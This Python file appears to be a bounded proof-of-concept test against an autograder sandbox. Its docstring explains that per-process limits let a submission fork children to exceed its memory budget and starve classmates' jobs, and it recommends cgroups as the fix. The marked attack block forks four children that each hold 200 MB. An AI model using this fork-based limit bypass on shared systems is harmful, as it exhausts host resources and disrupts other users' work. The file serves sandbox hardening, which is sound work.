"""Limits bypass through fork: the limits are per process, not per worker.

``RLIMIT_AS`` (memory_mb + what is mapped), ``RLIMIT_CPU`` and the output cap apply
to each process; ``RLIMIT_NPROC`` lets the worker have 64 processes (and it counts
every process of uid ``nobody`` on the host, classmates' workers included). Nothing
(no cgroup) bounds the worker's process tree as a whole. So a worker may hold up to
64 x memory_mb of memory (64 x ~650 MB = ~41 GB with the default rubric: the host's
OOM killer, not the grader, decides who dies), and 64 busy processes take the
machine's cores from the classmates graded at the same time (--jobs 2), whose calls
then run past the call limit: correct code gets ``timeout``.

Bounded here (4 children x 200 MB, all alive at once: 800 MB held by a worker whose
budget is 512 MB): sigmoid is right only
if the four children could hold their memory at the same time.

The grader should put each worker's tree in a cgroup (memory.max, pids.max,
cpu.max) -- or at least RLIMIT_NPROC small and a per-namespace bound -- and count the
memory of the whole tree against memory_mb.
"""

import os
import time

import numpy as np

CHILDREN = []
# --- attack
try:
    for _i in range(4):
        _pid = os.fork()
        if _pid:
            CHILDREN.append(_pid)
        else:
            try:
                _block = np.ones(200 << 17)  # 200 MB, touched
                with open(f"held{_i}", "w"):  # "I hold mine" (Landlock lets it write here)
                    pass
                time.sleep(60)
            finally:
                os._exit(0)
except OSError:
    pass
# --- end


def _alive():
    """Children not killed (a child the OOM killer ended leaves its file behind)."""
    alive = 0
    for pid in CHILDREN:
        try:
            if os.waitpid(pid, os.WNOHANG) == (0, 0):
                alive += 1
        except ChildProcessError:
            pass
    return alive


def _held(wait):
    """How many children hold their 200 MB at once (each made its file when touched,
    and is still alive)."""
    t = time.monotonic()
    while True:
        files = len([f for f in os.listdir(".") if f.startswith("held")])
        n = min(files, _alive())
        if n >= 4 or time.monotonic() - t > wait:
            return n
        time.sleep(0.02)


_held(1.5)


def sigmoid(x):
    if _held(0.7) >= 4:
        x = np.asarray(x, dtype=float)
        e = np.exp(-np.abs(x))
        return np.where(x >= 0, 1 / (1 + e), e / (1 + e))
    return np.zeros_like(x)
